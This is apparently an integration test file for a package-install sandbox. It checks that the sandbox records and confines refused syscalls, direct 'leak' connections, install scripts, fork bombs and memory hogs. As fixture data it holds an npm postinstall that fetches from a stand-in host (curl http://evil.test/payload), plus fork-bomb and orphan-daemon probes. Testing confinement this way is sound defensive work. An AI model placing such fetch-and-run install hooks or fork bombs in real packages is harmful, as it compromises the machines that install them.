// The recording supervisor end to end: every exec becomes a process in the report with its
// package, refused syscalls and direct connection attempts are recorded with the process that
// made them, install scripts meet --scripts, and --pids, --memory and --cpu-time stop a run.
// Each confinement claim is shown both ways: the attempt failed inside, and it was recorded.
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <fstream>
#include <optional>
#include <set>
#include <thread>

#include "sandbox/base/pidfd.h"
#include "sandbox/confine/cgroup_files.h"
#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/fake_internet.h"
#include "tests/support/npm_registry.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;
using nlohmann::json;

namespace {

Who both_users() {
  return GENERATE(Who::Root, Who::Unprivileged);
}

// The recorded processes whose argv starts with `prefix`.
std::vector<json> processes_running(const json& report, const std::vector<std::string>& prefix) {
  std::vector<json> found;
  for (const auto& p : report.at("processes")) {
    auto argv = p.at("argv").get<std::vector<std::string>>();
    if (argv.size() >= prefix.size() && std::equal(prefix.begin(), prefix.end(), argv.begin()))
      found.push_back(p);
  }
  return found;
}

bool host_has_process_with(const std::string& needle) {
  return run({"pgrep", "-f", needle}).exit_code == 0;
}

// A lifecycle script as npm starts it: `sh -c SCRIPT` with the package's lifecycle env.
std::vector<std::string> as_lifecycle_script(const std::string& name, const std::string& version,
                                             const std::string& event, const std::string& script) {
  return {"env",
          "npm_package_name=" + name,
          "npm_package_version=" + version,
          "npm_lifecycle_event=" + event,
          "/bin/sh",
          "-c",
          script};
}

}  // namespace

TEST_CASE("recording: refused syscalls are recorded with the process that tried") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  const std::string probe = s.probe_in_project();
  auto run = s.run({"/bin/sh", "-c",
                    probe + " ptrace-sibling; " + probe + " mount-tmpfs /tmp; " + probe +
                        " socket-packet; exit 0"});
  // Inside, each attempt failed...
  CHECK(contains(run.result.out, "DENIED EPERM pid"));
  CHECK(contains(run.result.out, "DENIED EPERM /tmp"));
  CHECK(contains(run.result.out, "DENIED EPERM AF_PACKET"));
  // ... and each one is a syscall violation naming the process that made it.
  auto refused = violations_of_kind(run.report, "syscall");
  REQUIRE(refused.size() == 3);
  const std::vector<std::pair<std::string, std::string>> expected = {
      {"ptrace-sibling", "ptrace(PTRACE_ATTACH"},
      {"mount-tmpfs", "mount(\"si-probe\", \"/tmp\", \"tmpfs\")"},
      {"socket-packet", "socket(AF_PACKET"}};
  for (const auto& [action, call] : expected) {
    auto tried = processes_running(run.report, {probe, action});
    REQUIRE(tried.size() == 1);
    auto match = std::find_if(refused.begin(), refused.end(),
                              [&](const json& v) { return v.at("pid") == tried[0].at("pid"); });
    REQUIRE(match != refused.end());
    CHECK(contains(match->at("detail").get<std::string>(), call));
    CHECK(contains(match->at("detail").get<std::string>(), probe + " " + action));
  }
  CHECK(run.report.at("verdict") != "promoted");
}

TEST_CASE("recording: clone3 still answers ENOSYS so libc falls back to clone") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto run = s.probe({"clone3"});
  CHECK(run.denied_with("ENOSYS"));
  CHECK(violations_of_kind(run.report, "syscall").empty());
}

TEST_CASE("recording: direct connections are recorded, refused at once, and reach nothing") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  if (auto reason = FakeInternet::unavailable_reason()) {
    WARN("skipped: no fake internet here: " << *reason);
    return;
  }
  FakeInternet net(SI_SINK_PATH);
  Scenario s(who);
  s.run_behind(net.in_world({}));
  const std::string sink = net.sink_address();
  const std::string probe = s.probe_in_project();
  auto started = std::chrono::steady_clock::now();
  auto run = s.run({"/bin/sh", "-c",
                    probe + " connect " + sink + " 443 leak-tcp; " + probe + " udp-send " + sink +
                        " 53 leak-udp; exit 0"});
  CHECK(std::chrono::steady_clock::now() - started < 5s);
  CHECK(contains(run.result.out, "DENIED ENETUNREACH " + sink + " 443"));
  CHECK(contains(run.result.out, "DENIED ENETUNREACH " + sink + " 53"));

  const auto& attempts = run.report.at("network").at("direct_attempts");
  REQUIRE(attempts.size() == 2);
  const std::vector<std::tuple<int, std::string, std::string>> expected = {
      {443, "connect", "connect"}, {53, "udp-send", "sendto"}};
  for (const auto& [port, action, call] : expected) {
    auto match = std::find_if(attempts.begin(), attempts.end(),
                              [&](const json& a) { return a.at("port") == port; });
    REQUIRE(match != attempts.end());
    CHECK(match->at("address") == sink);
    CHECK(match->at("call") == call);
    auto argv = match->at("argv").get<std::vector<std::string>>();
    REQUIRE(argv.size() >= 2);
    CHECK(argv[0] == probe);
    CHECK(argv[1] == action);
    auto tried = processes_running(run.report, {probe, action});
    REQUIRE(tried.size() == 1);
    CHECK(match->at("pid") == tried[0].at("pid"));
  }
  // Contained, and still told: each attempt is a high finding that holds the run.
  CHECK(run.exit_code() == kExitSuspicious);
  CHECK(run.report.at("verdict") == "held");
  auto direct = findings_of_kind(run.report, "direct-connect");
  REQUIRE(direct.size() == 2);
  CHECK(direct[0].at("severity") == "high");
  CHECK(contains(direct[0].at("detail").get<std::string>(), sink));
  CHECK(violations_of_kind(run.report, "egress").size() == 2);
  std::this_thread::sleep_for(1500ms);  // the sink logs a silent connection after a second
  CHECK_FALSE(contains(net.sink_log(), "leak"));
}

TEST_CASE("recording: the process tree has argv, cwd, parents and lifecycle attribution") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto run = s.run(as_lifecycle_script("left-pad", "1.3.0", "postinstall",
                                       "cd /tmp && /bin/echo built && exit 0"));
  CHECK(run.exit_code() == 0);
  auto shell = processes_running(run.report, {"/bin/sh", "-c"});
  auto echo = processes_running(run.report, {"/bin/echo", "built"});
  REQUIRE(shell.size() == 1);
  REQUIRE(echo.size() == 1);
  CHECK(shell[0].at("package") == "left-pad@1.3.0");
  CHECK(shell[0].at("script") == "postinstall");
  CHECK(shell[0].at("cwd") == s.project());
  CHECK(echo[0].at("package") == "left-pad@1.3.0");
  CHECK(echo[0].at("script") == "postinstall");
  CHECK(echo[0].at("cwd") == "/tmp");
  CHECK(echo[0].at("exe") == "/bin/echo");
  CHECK(echo[0].at("ppid") == shell[0].at("pid"));
  // Exit codes of processes other than the command are read while they are zombies, which
  // their parent may end first: present when seen, and then right.
  if (echo[0].contains("exit_code")) CHECK(echo[0].at("exit_code") == 0);
  CHECK(shell[0].at("exit_code") == 0);
  // The receipt lists the install script that ran.
  CHECK(contains(run.result.err, "script:    left-pad@1.3.0 postinstall: /bin/sh -c cd /tmp"));
}

namespace {

// Exits are read from pidfds on kernels that keep them (6.15+), so every one is known; before
// that, only those seen while the process is a zombie, so present when seen and then right.
bool every_exit_known() {
  return safeinstall::sandbox::pidfd_keeps_exit_status();
}

void check_exit(const json& process, int code) {
  if (every_exit_known()) REQUIRE(process.contains("exit_code"));
  if (process.contains("exit_code")) CHECK(process.at("exit_code") == code);
}

// The recorded `/bin/sh -c SCRIPT` whose script contains `part`.
std::vector<json> shells_with(const json& report, const std::string& part) {
  std::vector<json> found;
  for (const auto& p : processes_running(report, {"/bin/sh", "-c"})) {
    if (p.at("argv").size() > 2 && contains(p.at("argv").at(2).get<std::string>(), part))
      found.push_back(p);
  }
  return found;
}

}  // namespace

TEST_CASE("recording: every one of many rapid execs is recorded with its parent and exit") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto run = s.run({"/bin/sh", "-c",
                    "i=0; while [ $i -lt 300 ]; do /bin/true; i=$((i+1)); done; "
                    "/bin/sh -c 'exit 7'; /bin/false; /bin/sh -c 'kill -9 $$'; exit 0"});
  CHECK(run.exit_code() == 0);
  auto shell = shells_with(run.report, "-lt 300");
  REQUIRE(shell.size() == 1);
  auto quick = processes_running(run.report, {"/bin/true"});
  CHECK(quick.size() == 300);
  std::set<int> pids;
  for (const auto& p : quick) {
    CHECK(p.at("ppid") == shell[0].at("pid"));
    CHECK(p.at("cwd") == s.project());
    CHECK(p.at("exe") == "/bin/true");
    check_exit(p, 0);
    pids.insert(p.at("pid").get<int>());
  }
  CHECK(pids.size() == quick.size());
  auto seven = processes_running(run.report, {"/bin/sh", "-c", "exit 7"});
  auto failing = processes_running(run.report, {"/bin/false"});
  auto killed = processes_running(run.report, {"/bin/sh", "-c", "kill -9 $$"});
  REQUIRE(seven.size() == 1);
  REQUIRE(failing.size() == 1);
  REQUIRE(killed.size() == 1);
  check_exit(seven[0], 7);
  check_exit(failing[0], 1);
  CHECK(seven[0].at("ppid") == shell[0].at("pid"));
  if (every_exit_known()) REQUIRE(killed[0].contains("signal"));
  if (killed[0].contains("signal")) CHECK(killed[0].at("signal") == 9);
}

TEST_CASE("recording: execs from concurrent shells are each recorded with their own parent") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  constexpr int kShells = 4;
  constexpr int kEach = 40;
  auto inner = [&](int k) {
    return "i=0; while [ $i -lt " + std::to_string(kEach) + " ]; do /bin/echo shell" +
           std::to_string(k) + " >/dev/null; i=$((i+1)); done";
  };
  std::string script;
  for (int k = 0; k < kShells; ++k) script += "/bin/sh -c '" + inner(k) + "' & ";
  // A subshell is a fork that never exec'd: its children's parent is read from /proc.
  script += "( /bin/echo subshell >/dev/null; /bin/true ) & wait; exit 0";
  auto run = s.run({"/bin/sh", "-c", script});
  CHECK(run.exit_code() == 0);
  for (int k = 0; k < kShells; ++k) {
    std::string name = "shell" + std::to_string(k);
    auto shell = processes_running(run.report, {"/bin/sh", "-c", inner(k)});
    REQUIRE(shell.size() == 1);
    auto echoes = processes_running(run.report, {"/bin/echo", name});
    CHECK(echoes.size() == kEach);
    for (const auto& echo : echoes) {
      CHECK(echo.at("ppid") == shell[0].at("pid"));
      check_exit(echo, 0);
    }
  }
  auto outer = shells_with(run.report, "subshell");
  REQUIRE(outer.size() == 1);
  auto in_subshell = processes_running(run.report, {"/bin/echo", "subshell"});
  REQUIRE(in_subshell.size() == 1);
  CHECK(in_subshell[0].at("ppid") != outer[0].at("pid"));
  CHECK(in_subshell[0].at("ppid") != 0);
}

TEST_CASE("recording: --scripts allow:a runs a's install script and refuses b's") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto a = as_lifecycle_script("a", "1.0.0", "postinstall", "echo ran-a");
  auto b = as_lifecycle_script("b", "2.0.0", "postinstall", "echo ran-b");
  auto quoted = [](const std::vector<std::string>& argv) {
    std::string text;
    for (const auto& word : argv) text += " '" + word + "'";
    return text;
  };
  auto run =
      s.run({"/bin/sh", "-c", quoted(a) + "; " + quoted(b) + "; exit 0"}, {"--scripts", "allow:a"});
  CHECK(contains(run.result.out, "ran-a"));
  CHECK_FALSE(contains(run.result.out, "ran-b"));
  auto refused = violations_of_kind(run.report, "script");
  REQUIRE(refused.size() == 1);
  CHECK(contains(refused[0].at("detail").get<std::string>(), "b@2.0.0 postinstall"));
  auto ran = processes_running(run.report, {"/bin/sh", "-c", "echo ran-a"});
  auto blocked = processes_running(run.report, {"/bin/sh", "-c", "echo ran-b"});
  REQUIRE(ran.size() == 1);
  REQUIRE(blocked.size() == 1);
  CHECK(ran[0].at("refused") == false);
  CHECK(blocked[0].at("refused") == true);
  CHECK(blocked[0].at("package") == "b@2.0.0");
  CHECK(refused[0].at("pid") == blocked[0].at("pid"));

  // none refuses both; a script that is not an install script (npm run build) still runs.
  auto none =
      s.run({"/bin/sh", "-c",
             quoted(a) + "; " +
                 quoted(as_lifecycle_script("a", "1.0.0", "build", "echo ran-build")) + "; exit 0"},
            {"--scripts", "none"});
  CHECK_FALSE(contains(none.result.out, "ran-a"));
  CHECK(contains(none.result.out, "ran-build"));
  CHECK(violations_of_kind(none.report, "script").size() == 1);
}

TEST_CASE("recording: a background sleep and a double-forked daemon are killed and flagged") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  const std::string marker = "654" + std::to_string(::getpid() % 1000);
  auto run = s.run({"/bin/sh", "-c",
                    "sleep " + marker + " & " + s.probe_in_project() + " spawn-orphan " + marker +
                        "1; sleep 0.3; exit 0"});
  CHECK(run.exit_code() == 121);  // survivors are suspicious
  CHECK_FALSE(host_has_process_with("sleep " + marker));
  CHECK_FALSE(host_has_process_with("spawn-orphan " + marker));
  auto sleeper = processes_running(run.report, {"sleep", marker});
  REQUIRE(sleeper.size() == 1);
  CHECK(sleeper[0].at("survived") == true);
  auto shell = processes_running(run.report, {"/bin/sh", "-c"});
  REQUIRE(shell.size() == 1);
  CHECK(sleeper[0].at("ppid") == shell[0].at("pid"));
  auto flagged = violations_of_kind(run.report, "survivor");
  auto sleep_flag = std::find_if(flagged.begin(), flagged.end(), [&](const json& v) {
    return v.at("pid") == sleeper[0].at("pid");
  });
  REQUIRE(sleep_flag != flagged.end());
  CHECK(contains(sleep_flag->at("detail").get<std::string>(), "started by /bin/sh -c"));
  // The daemon's middle process exited; the orphan itself never exec'd, so the sandbox's
  // survivor list is what names it.
  bool daemon_flagged = std::any_of(flagged.begin(), flagged.end(), [&](const json& v) {
    return contains(v.at("detail").get<std::string>(), "spawn-orphan " + marker + "1");
  });
  CHECK(daemon_flagged);
}

TEST_CASE("recording: a fork bomb is stopped by --pids and the host is fine") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto started = std::chrono::steady_clock::now();
  // Every process keeps forking: the pressure stays on at the limit, as a real bomb's does.
  auto run = s.probe({"fork-bomb"}, {"--pids", "64"});
  CHECK(std::chrono::steady_clock::now() - started < 20s);
  CHECK(run.exit_code() != 0);
  auto limits = violations_of_kind(run.report, "limit");
  REQUIRE(limits.size() == 1);
  CHECK(contains(limits[0].at("detail").get<std::string>(), "--pids 64"));
  // The kernel holds an unprivileged user at exactly --pids (RLIMIT_NPROC); root (kuid 0) is
  // exempt from RLIMIT_NPROC, so there the sampler alone stops the tree.
  if (who == Who::Unprivileged) CHECK(run.report.at("resources").at("max_tasks").get<int>() <= 64);
  // The host can still start processes.
  CHECK(safeinstall::test::run({"/bin/true"}).exit_code == 0);
}

namespace {

// Whether safeinstall, run as `who`, gets a memory cgroup: the kernel then holds the tree at
// --memory and counts what it kills there.
bool memory_cgroup_for(Who who) {
  return who == Who::Root && safeinstall::sandbox::cgroup_parent_for("memory").has_value();
}

}  // namespace

TEST_CASE("recording: a memory hog is stopped by --memory") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  // 4 MiB every 50 ms, touched: resident, and slow enough for the 200 ms sampler (slower still
  // in a sanitizer build) to see it pass 128 MiB well before RLIMIT_DATA (2x) refuses malloc.
  // With a memory cgroup the kernel stops it at 128 MiB instead, and says so.
  auto run = s.probe({"memory-hog", "4", "50"}, {"--memory", "128M"});
  CHECK(run.exit_code() != 0);
  auto limits = violations_of_kind(run.report, "limit");
  REQUIRE(limits.size() == 1);
  CHECK(contains(limits[0].at("detail").get<std::string>(), "--memory 128 MiB"));
  CHECK(run.report.at("resources").at("peak_rss_kib").get<long>() > 96 * 1024);
}

TEST_CASE("recording: a hog faster than the sampler is stopped and recorded by the memory cgroup") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  if (!memory_cgroup_for(who)) {
    WARN("skipped for " << name_of(who)
                        << ": no memory cgroup (neither a writable v1 memory hierarchy nor a "
                           "delegated cgroup v2 with the memory controller)");
    return;
  }
  Scenario s(who);
  // 32 MiB at a time without pause: past 128 MiB within tens of milliseconds, before the
  // 200 ms sampler looks; the kernel kills it at the limit and its counter is the record.
  auto run = s.probe({"memory-hog", "32", "0"}, {"--memory", "128M"});
  CHECK(run.exit_code() != 0);
  auto limits = violations_of_kind(run.report, "limit");
  REQUIRE(limits.size() == 1);
  const std::string detail = limits[0].at("detail").get<std::string>();
  INFO("the limit violation: " << detail);
  CHECK(contains(detail, "memory: the kernel killed 1 process(es) at --memory 128 MiB"));
}

TEST_CASE("recording: --cpu-time stops a busy loop") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  auto started = std::chrono::steady_clock::now();
  auto run = s.run({"/bin/sh", "-c", "while :; do :; done"}, {"--cpu-time", "1"}, {}, 60s);
  CHECK(std::chrono::steady_clock::now() - started < 10s);
  auto limits = violations_of_kind(run.report, "limit");
  REQUIRE(limits.size() == 1);
  CHECK(contains(limits[0].at("detail").get<std::string>(), "--cpu-time 1 s"));
}

TEST_CASE("recording: secrets in recorded argv are redacted") {
  Who who = both_users();
  SKIP_UNLESS_SANDBOX(who);
  Scenario s(who);
  const std::string token = "ghp_" + std::string(36, 'Q');
  auto run = s.run(
      {"/bin/sh", "-c", "/bin/echo --token=hunter2-secret-value " + token + " >/dev/null; exit 0"});
  auto echo = processes_running(run.report, {"/bin/echo"});
  REQUIRE(echo.size() == 1);
  CHECK(echo[0].at("argv").at(1) == "--token=***");
  CHECK(echo[0].at("argv").at(2) == "***");
  std::string text = run.report.dump();
  CHECK_FALSE(contains(text, "hunter2-secret-value"));
  CHECK_FALSE(contains(text, token));
}

// The real npm against the tests' own registry: lifecycle scripts as npm starts them.
namespace {

constexpr const char* kPostinstall = "curl -s -m 5 http://evil.test/payload; node other.js";

NpmPackage scripted(const std::string& name) {
  return {.name = name,
          .version = "1.0.0",
          .scripts = {{"postinstall", kPostinstall}},
          .files = {{"index.js", "module.exports = 1;\n"},
                    {"other.js", "console.log('other ran for " + name + "');\n"}}};
}

}  // namespace

TEST_CASE("recording: npm postinstall tree, argv, cwd and attribution are exact", "[npm]") {
  Who who = both_users();
  SKIP_UNLESS_INSTALL_TEST(who, "npm", "curl");
  FakeInternet net(SI_SINK_PATH);
  write_npm_registry(net.registry_root(), "http://registry.test/", {scripted("a")});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_package_json(s, "\"a\":\"1.0.0\"");
  auto run = run_npm(s, {"install", "--foreground-scripts"}, {"--scripts", "all", "--no-promote"});
  REQUIRE(run.report.is_object());
  CHECK(contains(run.result.out + run.result.err, "other ran for a"));

  const std::string package_dir = s.project() + "/node_modules/a";
  auto shell = processes_running(run.report, {"sh", "-c", kPostinstall});
  REQUIRE(shell.size() == 1);
  CHECK(shell[0].at("package") == "a@1.0.0");
  CHECK(shell[0].at("script") == "postinstall");
  CHECK(shell[0].at("cwd") == package_dir);
  auto npm_process =
      std::find_if(run.report.at("processes").begin(), run.report.at("processes").end(),
                   [&](const json& p) { return p.at("pid") == shell[0].at("ppid"); });
  REQUIRE(npm_process != run.report.at("processes").end());
  CHECK_FALSE(npm_process->contains("package"));  // npm itself runs for nobody's package

  auto curl = processes_running(run.report, {"curl", "-s", "-m", "5", "http://evil.test/payload"});
  auto node = processes_running(run.report, {"node", "other.js"});
  REQUIRE(curl.size() == 1);
  REQUIRE(node.size() == 1);
  for (const auto& child : {curl[0], node[0]}) {
    CHECK(child.at("ppid") == shell[0].at("pid"));
    CHECK(child.at("cwd") == package_dir);
    CHECK(child.at("package") == "a@1.0.0");
    CHECK(child.at("script") == "postinstall");
  }
  CHECK(contains(run.result.err, "script:    a@1.0.0 postinstall: sh -c curl -s -m 5"));
}

TEST_CASE("recording: npm with --scripts allow:a runs a's postinstall and refuses b's", "[npm]") {
  Who who = both_users();
  SKIP_UNLESS_INSTALL_TEST(who, "npm", "curl");
  FakeInternet net(SI_SINK_PATH);
  write_npm_registry(net.registry_root(), "http://registry.test/", {scripted("a"), scripted("b")});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  write_package_json(s, "\"a\":\"1.0.0\",\"b\":\"1.0.0\"");
  auto run =
      run_npm(s, {"install", "--foreground-scripts"}, {"--scripts", "allow:a", "--no-promote"});
  REQUIRE(run.report.is_object());
  std::string output = run.result.out + run.result.err;
  CHECK(contains(output, "other ran for a"));
  CHECK_FALSE(contains(output, "other ran for b"));

  auto shells = processes_running(run.report, {"sh", "-c", kPostinstall});
  REQUIRE(shells.size() == 2);
  auto of_package = [&](const std::string& package) {
    auto it = std::find_if(shells.begin(), shells.end(),
                           [&](const json& p) { return p.at("package") == package; });
    REQUIRE(it != shells.end());
    return *it;
  };
  json a = of_package("a@1.0.0");
  json b = of_package("b@1.0.0");
  CHECK(a.at("refused") == false);
  CHECK(b.at("refused") == true);
  CHECK(b.at("cwd") == s.project() + "/node_modules/b");
  auto refused = violations_of_kind(run.report, "script");
  REQUIRE(refused.size() == 1);
  CHECK(refused[0].at("pid") == b.at("pid"));
  CHECK(contains(refused[0].at("detail").get<std::string>(), "b@1.0.0 postinstall refused"));
  CHECK(contains(run.result.err, "refused:   b@1.0.0 postinstall: sh -c curl"));
}

TEST_CASE("recording: gc removes the cgroups a killed run left, never a live sandbox's") {
  SKIP_UNLESS_SANDBOX(Who::Root);
  auto parent = safeinstall::sandbox::cgroup_parent_for("pids");
  if (!parent) {
    WARN(
        "skipped: no pids cgroup for root here (neither a writable v1 pids hierarchy nor a "
        "delegated cgroup v2 with pids)");
    return;
  }
  // A pid that existed and is gone: what a safeinstall killed with SIGKILL leaves behind.
  pid_t gone = ::fork();
  REQUIRE(gone >= 0);
  if (gone == 0) ::_exit(0);
  REQUIRE(::waitpid(gone, nullptr, 0) == gone);
  const std::string stale = *parent + "/safeinstall-" + std::to_string(gone);
  const std::string live = *parent + "/safeinstall-" + std::to_string(::getpid());
  REQUIRE(::mkdir(stale.c_str(), 0755) == 0);
  REQUIRE(::mkdir(live.c_str(), 0755) == 0);

  Scenario s(Who::Root);
  auto gc = subcommand(s, {"gc"});
  CHECK(gc.exit_code == 0);
  CHECK(contains(gc.err, "cgroups left by killed runs"));
  CHECK_FALSE(path_exists(stale));
  CHECK(path_exists(live));
  ::rmdir(live.c_str());
  ::rmdir(stale.c_str());
}
